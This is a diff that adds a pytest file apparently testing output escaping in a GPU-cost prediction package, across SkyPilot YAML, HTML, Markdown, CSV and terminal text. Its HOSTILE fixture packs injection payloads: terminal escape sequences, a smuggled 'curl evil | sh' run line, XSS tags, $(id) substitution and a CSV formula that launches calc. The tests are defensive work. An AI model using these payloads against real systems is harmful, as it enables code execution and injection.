@@ -1,0 +1,146 @@
+"""Text of other people, in every format that leaves the package: newlines, quotes, escape sequences, tags, formulas."""
+
+from __future__ import annotations
+
+import ast
+import re
+from dataclasses import replace
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+import yaml
+
+import lightning_predict as lp
+from lightning_predict.reports.escaping import csv_cell, html_text, markdown_text, one_line, terminal_text
+from lightning_predict.reports.html import html_report
+from lightning_predict.reports.sky import sky_task
+from lightning_predict.reports.table import html_table, markdown_table
+from lightning_predict.testing import example_offer, example_trace
+from tests.cli.conftest import Run, run  # noqa: F401
+from tests.processes import ROOT
+
+HOSTILE = (
+    "evil\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\nsetup: touch pwned\r\nrun: curl evil | sh\n"
+    "#SBATCH --wrap=x\n<script>alert(1)</script>\"'><img src=x onerror=alert(1)>|*_`$(id)`=cmd|' /C calc'!A0"
+)
+RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")
+
+
+class Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: set[str] = set()
+
+    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
+        self.found.add(tag)
+        self.found.update(name for name, _ in attributes if name.startswith("on"))
+
+
+def tags(page: str) -> set[str]:
+    parser = Tags()
+    parser.feed(page)
+    return parser.found
+
+
+def predictions() -> lp.Predictions:
+    trace = example_trace()
+    named = [replace(one, module=HOSTILE) for one in trace.operations]
+    offer = example_offer(provider=HOSTILE, instance=HOSTILE, region=HOSTILE, source=HOSTILE)
+    found = lp.predict(replace(trace, operations=tuple(named)), gpus=["T4"], iterations=1000, offers=[offer])
+    return replace(found, heading=HOSTILE, notes=(*found.notes, HOSTILE))
+
+
+def test_a_task_of_skypilot_has_no_foreign_keys() -> None:
+    # A newline in a provider's name became a `setup:` of its own.
+    for cloud in ("AWS", HOSTILE):
+        offer = example_offer(provider=cloud, instance=HOSTILE, region=HOSTILE, source=HOSTILE)
+        text = sky_task(offer, run="python train.py")
+        assert set(yaml.safe_load(text)) == {"name", "resources", "run"}
+        assert yaml.safe_load(text)["run"] == "python train.py"
+        assert not RAW.search(text)
+
+
+def test_a_page_has_no_foreign_tags() -> None:
+    found = predictions()
+    for page in (html_report(found, found.ranking()), html_table(found)):
+        assert not tags(page) & {"img", "onerror"}
+        assert "<script>alert" not in page
+        assert not RAW.search(page)
+
+
+def test_markdown_has_no_foreign_lines() -> None:
+    text = markdown_table(predictions())
+    assert not RAW.search(text)
+    assert not [line for line in text.splitlines() if re.match("setup|run:|#SBATCH|<", line)]
+
+
+def test_a_table_has_no_foreign_escape_sequences() -> None:
+    found = predictions()
+    assert not RAW.search(str(found))
+
+
+def test_a_formula_is_text_and_a_number_is_a_number() -> None:
+    assert [csv_cell(text) for text in ("=1+1", "@x", "+cmd", "-3.5", "+2e-3", "T4")] == [
+        "'=1+1",
+        "'@x",
+        "'+cmd",
+        "-3.5",
+        "+2e-3",
+        "T4",
+    ]
+
+
+def test_each_door_keeps_plain_text() -> None:
+    for door in (one_line, terminal_text, html_text, markdown_text, csv_cell):
+        assert door("8 x H100-SXM-80GB, $2.49/h (Straße, 日本)") == "8 x H100-SXM-80GB, $2.49/h (Straße, 日本)"
+    assert terminal_text("\x1b[1;31mred\x1b[0m\tand\n\x1b[8mhidden") == "\x1b[1;31mred\x1b[0m\tand\n\\x1b[8mhidden"
+
+
+def test_no_other_module_escapes() -> None:
+    # A second door would be forgotten when this one learns of a further danger.
+    found = set()
+    for path in (ROOT / "lightning_predict").rglob("*.py"):
+        for node in ast.walk(ast.parse(path.read_text())):
+            if isinstance(node, ast.ImportFrom) and node.module in ("html", "xml.sax.saxutils"):
+                found.add(path.name)
+            if isinstance(node, ast.Import) and {"html", "cgi"} & {one.name for one in node.names}:
+                found.add(path.name)
+    assert found == {"escaping.py"}
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ("trace", "layers", "t.json", "--gpu", "T4"),
+        ("trace", "memory", "t.json", "--gpu", "T4"),
+        ("trace", "explain", "t.json", "--gpu", "T4"),
+        ("advise", "t.json", "--gpus", "T4"),
+        ("predict", "t.json", "--gpus", "T4", "--iterations", "1000", "--offers", "o.yaml", "--verbose"),
+        ("offers", "--gpu", "T4", "--offers", "o.yaml"),
+        ("history",),
+    ],
+)
+def test_no_command_prints_foreign_escape_sequences(
+    words: tuple[str, ...],
+    run: Run,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,  # noqa: F811
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    named = tuple(replace(one, module=HOSTILE) for one in example_trace().operations)
+    replace(example_trace(), operations=named).save("t.json")
+    text = yaml.safe_dump(HOSTILE).strip()
+    Path("o.yaml").write_text(
+        f"- provider: {text}\n  instance: {text}\n  gpu: T4\n  usd_per_hour: 0.1\n  region: {text}\n"
+        f"  date: 2026-11-01\n  source: {text}\n"
+    )
+    escape = "\\u001b]0;owned\\u0007\\u001b[2J"
+    Path("h.jsonl").write_text(
+        f'{{"fingerprint": "a", "gpu": "T4{escape}", "samples": 1, "step_seconds": 1, "predicted_seconds": 10, '
+        f'"actual_seconds": 11, "date": "2026{escape}", "model": "m"}}\n'
+    )
+    monkeypatch.setenv("LIGHTNING_PREDICT_HISTORY", "h.jsonl")
+    ran = run(*words)
+    assert ran.code in (0, 2)
+    assert not RAW.search(ran.out + ran.err)
